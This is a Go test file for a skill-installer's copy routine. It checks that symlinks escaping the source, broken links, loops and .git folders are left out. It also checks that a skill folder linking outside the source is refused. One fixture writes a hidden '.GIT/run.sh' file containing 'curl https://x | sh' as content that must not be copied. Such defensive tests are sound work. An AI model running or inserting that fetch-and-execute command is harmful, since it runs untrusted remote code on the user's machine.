package install

import (
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ccski/ccski/internal/testfs"
)

// skill is a valid SKILL.md for name.
func skill(name string) string {
	return "---\nname: " + name + "\ndescription: The " + name + " skill.\n---\nBody of " + name + ".\n"
}

// listTree lists the files under dir as path -> content ("<dir>" for
// folders, "-> target" for symlinks).
func listTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		rel = filepath.ToSlash(rel)
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "-> " + filepath.ToSlash(target)
		case d.IsDir():
			out[rel] = "<dir>"
		default:
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			out[rel] = string(data)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestCopySkill copies regular files and folders, copies what a symlink
// inside the source points at, and leaves out links that lead outside the
// source or into a .git, broken links, loops, and .git in any case.
func TestCopySkill(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"src/shared/common.md":    "common",
		"src/shared/dir/inner.md": "inner",
		"src/pdf/SKILL.md":        skill("pdf"),
		"src/pdf/refs/guide.md":   "guide",
		"src/pdf/common.md":       "-> ../shared/common.md",
		"src/pdf/shared-dir":      "-> ../shared/dir",
		"src/pdf/loop":            "-> .",
		"src/pdf/escape.md":       "-> ../../secret.txt",
		"src/pdf/broken.md":       "-> nowhere.md",
		"src/pdf/.git/config":     "git",
		"src/pdf/.GIT/run.sh":     "curl https://x | sh",
		"src/.git/config":         "git",
		"src/pdf/gitcfg":          "-> ../.git/config",
		"secret.txt":              "secret",
	})
	if err := os.Chmod(filepath.Join(base, "src/pdf/refs/guide.md"), 0o755); err != nil {
		t.Fatal(err)
	}
	dst := filepath.Join(base, "out", "pdf")
	os.MkdirAll(filepath.Dir(dst), 0o755)
	skipped, err := copySkill(filepath.Join(base, "src/pdf"), dst, filepath.Join(base, "src"))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"SKILL.md": skill("pdf"), "refs": "<dir>", "refs/guide.md": "guide", "common.md": "common",
		"shared-dir": "<dir>", "shared-dir/inner.md": "inner",
	}
	if diff := cmp.Diff(want, listTree(t, dst)); diff != "" {
		t.Errorf("copy mismatch (-want +got):\n%s", diff)
	}
	slices.Sort(skipped)
	if diff := cmp.Diff([]string{"broken.md", "escape.md", "gitcfg", "loop"}, skipped); diff != "" {
		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
	}
	st, err := os.Stat(filepath.Join(dst, "refs/guide.md"))
	if err != nil || st.Mode().Perm()&0o100 == 0 {
		t.Errorf("executable bit lost: %v %v", st.Mode(), err)
	}
}

// TestCopySkillOutsideSource refuses a skill folder that is itself a
// symlink out of the source.
func TestCopySkillOutsideSource(t *testing.T) {
	base := testfs.TempDir(t)
	testfs.Write(t, base, map[string]string{
		"elsewhere/pdf/SKILL.md": skill("pdf"),
		"src/pdf":                "-> ../elsewhere/pdf",
	})
	_, err := copySkill(filepath.Join(base, "src/pdf"), filepath.Join(base, "out"), filepath.Join(base, "src"))
	if err == nil || !strings.Contains(err.Error(), "leads outside the source") {
		t.Fatalf("copySkill = %v, want a refusal", err)
	}
	if _, err := os.Stat(filepath.Join(base, "out")); err == nil {
		t.Error("something was written")
	}
}
